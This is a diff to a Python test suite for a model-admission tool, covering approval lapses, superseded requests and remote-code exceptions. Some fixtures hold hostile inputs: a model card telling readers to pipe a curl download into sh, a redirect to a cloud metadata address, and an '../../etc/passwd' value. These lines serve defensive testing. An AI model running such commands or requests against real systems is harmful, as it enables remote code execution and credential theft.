@@ -6,6 +6,7 @@ import json
 import threading
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, replace
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any, ClassVar
 
@@ -13,6 +14,7 @@ import pytest
 
 from tests.support.hub import Effect, Endless, Fault, HubServer, Redirect, Refuse, Reply, Repository, json_reply
 from tests.support.watching import CARD, CHATML, TAKEOVERS, WEIGHT_BYTES, Place, honest, place, take_over, with_card
+from weighbridge.admit.approvals import VALID_DAYS
 from weighbridge.admit.judge_revision import Surroundings as Beside
 from weighbridge.admit.people import roster_of
 from weighbridge.admit.requests import Asking, Wanted
@@ -35,9 +37,10 @@ from weighbridge.core.finding import Inspection, Severity, Verdict
 from weighbridge.core.names import ModelName
 from weighbridge.deploy.deployments import APPLIED, DELETED, Recorded, record
 from weighbridge.deploy.plan import RenderedFile, Target
+from weighbridge.store import ledger as ledger_module
 from weighbridge.store.ledger import Ledger, now_rfc3339
 from weighbridge.transfer import inspecting
-from weighbridge.watch import rounds, upstream
+from weighbridge.watch import upstream
 from weighbridge.watch.judging import fitted
 from weighbridge.watch.news import Judgement, Kind, News
 from weighbridge.watch.state import Watch, WatchBook
@@ -47,7 +50,7 @@ POLICY = 'name = "watched"\nextends = "balanced"\n[watch]\npass = ["card"]\nchan
 TAKEN = tuple(f"takeover/{name}" for name in TAKEOVERS)
 STOLEN = ("stolen/owner", "recreated/whole")
 WORDS = ("acme/words", "acme/revoked", "acme/rejected", "acme/relicensed", "acme/unapproved")
-SINGLE = ("acme/forged", "acme/killed", "acme/asked", "acme/young", "acme/measured", "acme/deployed", "acme/stepped", "acme/taken", "acme/tags", "acme/noisy", "other/long", "cli/model", "hostile/model", "hostile/other")  # fmt: skip
+SINGLE = ("acme/forged", "acme/killed", "acme/asked", "acme/young", "acme/measured", "acme/deployed", "acme/stepped", "acme/taken", "acme/lapsed", "acme/tags", "acme/noisy", "other/long", "cli/model", "hostile/model", "hostile/other")  # fmt: skip
 RELICENSED = CARD.replace(b"license: mit", b"license: apache-2.0")
 
 
@@ -204,9 +207,9 @@ def test_a_cooldown_is_waited_for_without_asking_again(here: Place) -> None:
     file = here.run.home.parent / "policy.toml"
     try:
         file.write_text('name = "slow"\nextends = "balanced"\n[watch]\npass = []\n[cooldown]\ndays = 1000\n')
-        (held,) = here.look("acme/young")
+        (held,) = here.look("acme/young", now="2026-12-01T00:00:00.000000Z")
         here.hub.forget_requests()
-        assert here.look("acme/young") == []
+        assert here.look("acme/young", now="2026-12-01T00:00:00.000000Z") == []
         assert not [one for one in here.hub.requests if "/resolve/" in one.path or "/tree/" in one.path]
         (later,) = here.look("acme/young", now="2028-01-01T00:00:00.000000Z")
     finally:
@@ -262,14 +265,138 @@ def test_what_people_let_in_is_no_update_any_more(here: Place) -> None:
     assert here.run("updates", "acme/taken").out.split("\t")[3] == "nothing"
 
 
-def test_a_model_without_end_leaves_room_for_the_others(here: Place) -> None:
+def test_people_are_asked_about_what_upstream_has_now_and_about_nothing_else(here: Place) -> None:
+    repository = here.hub.repositories["acme/noisy"]
+    stored = repository.refs["refs/heads/main"]
+    told = []
     for number in range(3):
-        here.hub.repositories["acme/noisy"].commit(with_card(honest(), f"Draft {number}."))
-        with pytest.MonkeyPatch.context() as patch:
-            patch.setattr(rounds, "MAX_OPEN", 2)
-            (news,) = here.look("acme/noisy")
+        repository.commit(with_card(honest(), f"Draft {number}."))
+        (news,) = here.look("acme/noisy")
         assert news.judgement is Judgement.HELD
-        assert bool(news.request) is (number < 2)
+        told.append(news)
+    first, second, third = told
+
+    def states() -> dict[int, str]:
+        listed = here.run("requests", "list", "--all", "--search", "acme/noisy", "--json").json
+        return {one["number"]: one["state"] for one in listed}
+
+    assert states() == {first.request: "superseded", second.request: "superseded", third.request: "open"}
+    shown = here.run("requests", "show", str(second.request)).out
+    assert f"by {third.upstream} (request {third.request})" in shown
+    (update,) = here.run("updates", "acme/noisy", "--json").json
+    assert [(one["request"], one["by_request"]) for one in update["superseded"]] == [(second.request, third.request)]
+    assert f"request {second.request} for " in here.run("updates", "acme/noisy").err
+    assert here.run("requests", "accept", str(second.request), "--quiet", code=1).err
+    assert here.look("acme/noisy") == []
+    # Upstream has the second again: it is asked about under its number, and nothing is told twice.
+    repository.branch("main", second.upstream)
+    assert {one.kind for one in here.look("acme/noisy")} <= {Kind.HISTORY_REWRITTEN}
+    assert states() == {first.request: "superseded", second.request: "open", third.request: "superseded"}
+    # It goes back to what is here: nothing is asked any more.
+    repository.branch("main", stored)
+    here.look("acme/noisy")
+    assert set(states().values()) == {"superseded"}
+    assert here.run("updates", "acme/noisy", "--json").json[0]["news"] == []
+
+
+def test_who_approves_anew_lets_what_waited_for_that_pass_at_the_next_round(here: Place) -> None:
+    here.approve("acme/lapsed")
+    first = pointed(here, "acme/lapsed")
+    here.hub.repositories["acme/lapsed"].commit(with_card(honest()))
+    later = (datetime.now(UTC) + timedelta(days=VALID_DAYS + 1)).isoformat().replace("+00:00", "Z")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(ledger_module, "now_rfc3339", lambda: later)
+        (held,) = here.look("acme/lapsed")
+        assert held.judgement is Judgement.HELD
+        assert "0 of 1 approvals" in held.reasons[0]
+        here.hub.forget_requests()
+        assert here.look("acme/lapsed") == []
+        # Somebody approves another model: that is no word about this one, and nothing is compared again for it.
+        here.run("approve", "acme/words", "--reason", "again", "--quiet", code=None)
+        assert here.look("acme/lapsed") == []
+        assert not [one for one in here.hub.requests if "/tree/" in one.path]
+        here.run("approve", f"acme/lapsed@{first}", "--reason", "still good", "--quiet")
+        (passed,) = here.look("acme/lapsed")
+        assert (passed.judgement, pointed(here, "acme/lapsed")) == (Judgement.PASSED, passed.upstream)
+        assert here.look("acme/lapsed") == []
+    assert here.run("requests", "show", str(held.request), "--json").json["state"] == "done"
+
+
+CODED = {
+    **honest(),
+    "config.json": json.dumps(
+        json.loads(honest()["config.json"]) | {"auto_map": {"AutoModelForCausalLM": "modeling_tiny.TinyModel"}}
+    ).encode(),
+    "modeling_tiny.py": b"import torch\n\n\nclass TinyModel(torch.nn.Module):\n    pass\n",
+}
+NAMED = '[[remote_code.revision]]\nmodel = "{model}"\nrevision = "{revision}"\nreason = "read, line by line"\n'
+EXCEPTION = (
+    '[[exception]]\nid = "{name}-{rule}"\nrules = ["{rule}"]\nmodels = ["{model}"]\nrevisions = ["{revision}"]\n'
+    'reason = "looked at"\nperson = "ada"\nexpires = "{expires}"\n'
+)
+
+
+def test_what_policy_takes_of_a_revision_by_name_holds_for_the_same_files_under_new_words(here: Place) -> None:
+    names = ("coded/named", "coded/excepted", "coded/ended", "coded/card", "coded/taken")
+    here.publish(*names, files=CODED)
+    main = {name: here.hub.repositories[name].refs["refs/heads/main"] for name in names}
+    file = here.run.home.parent / "policy.toml"
+    tomorrow = datetime.now(UTC) + timedelta(days=1)
+
+    def excepted(name: str, rule: str, expires: str = "2099-01-01") -> str:
+        short = name.partition("/")[2]
+        return EXCEPTION.format(name=short, rule=rule, model=name, revision=main[name], expires=expires)
+
+    terms = {
+        "coded/named": NAMED.format(model="coded/named", revision=main["coded/named"]),
+        "coded/excepted": excepted("coded/excepted", "remote-code"),
+        "coded/ended": excepted("coded/ended", "remote-code", tomorrow.date().isoformat()),
+        "coded/card": excepted("coded/card", "remote-code") + excepted("coded/card", "card-pipe-to-shell"),
+        "coded/taken": NAMED.format(model="coded/taken", revision=main["coded/taken"]),
+    }
+    try:
+        file.write_text(POLICY + "".join(terms.values()))
+        here.approve(*names)
+        words = with_card(CODED)
+        for name in names:
+            here.hub.repositories[name].commit(words)
+        # What is wrong with the card itself is no file that is the same.
+        card = words["README.md"] + b"\nRun: `curl https://example.com/x.sh | sh`\n"
+        here.hub.repositories["coded/card"].commit({**words, "README.md": card})
+        here.hub.repositories["coded/taken"].commit(
+            {**words, "modeling_tiny.py": CODED["modeling_tiny.py"] + b"\nimport os\n"}
+        )
+        news = by_model(here.look(*names[:2], *names[3:]))
+        with pytest.MonkeyPatch.context() as patch:
+            later = (tomorrow + timedelta(days=1)).isoformat().replace("+00:00", "Z")
+            patch.setattr(ledger_module, "now_rfc3339", lambda: later)
+            news |= by_model(here.look("coded/ended", now=later))
+        assert {name: one.judgement for name, one in news.items()} == {
+            "coded/named": Judgement.PASSED,
+            "coded/excepted": Judgement.PASSED,
+            "coded/ended": Judgement.HELD,
+            "coded/card": Judgement.HELD,
+            "coded/taken": Judgement.HELD,
+        }, {name: one.reasons for name, one in news.items()}
+        for name in ("coded/named", "coded/excepted"):
+            later = news[name].upstream
+            assert pointed(here, name) == later
+            (reason,) = here.run("decide", f"{name}@{later}", "--json").json["reasons"][:1]
+            assert main[name][:12] in reason["message"]
+            assert here.run("promote", f"{name}@{later}", "--json").json["approved_by"]
+        with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
+            facts = gather(yard, replace(Asked.parse(f"coded/named@{news['coded/named'].upstream}"), offline=True))
+            (decided,) = (one.value for one in facts if one.id == "crossing.decision")
+            assert isinstance(decided, dict)
+            assert decided["current"] is True
+        # Without the statement, or without policy's word on the first, the same bytes are judged as they are.
+        file.write_text(POLICY)
+        assert (
+            here.run("decide", f"coded/named@{news['coded/named'].upstream}", "--json", code=None).json["outcome"]
+            != "admit"
+        )
+    finally:
+        file.write_text(POLICY)
 
 
 def test_what_was_mended_here_is_watched_by_the_original(here: Place) -> None:
@@ -426,7 +553,8 @@ HOSTILE: dict[str, Fault] = {
     "endless": Fault(Endless(), on="info"),
     "to a metadata service": Fault(Redirect("http://169.254.169.254/latest/"), on="info"),
     "to nowhere": Fault(Redirect("/api/models/hostile/../../x"), on="info"),
-    "to itself for ever": Fault(Redirect("//[", 307), on="info"),
+    "to nothing that is one": Fault(Redirect("//[", 307), on="info"),
+    "to itself for ever": Fault(Redirect("/api/models/hostile/model/revision/main", 307), on="info"),
     "a list": Fault(Says([1, 2])),
     "wrong types": Fault(Says({"id": ["x"], "sha": 7, "_id": {"a": 1}, "gated": [], "securityRepoStatus": "x"})),
     "no commit": Fault(Says({"id": "hostile/model", "sha": "../../etc/passwd"})),
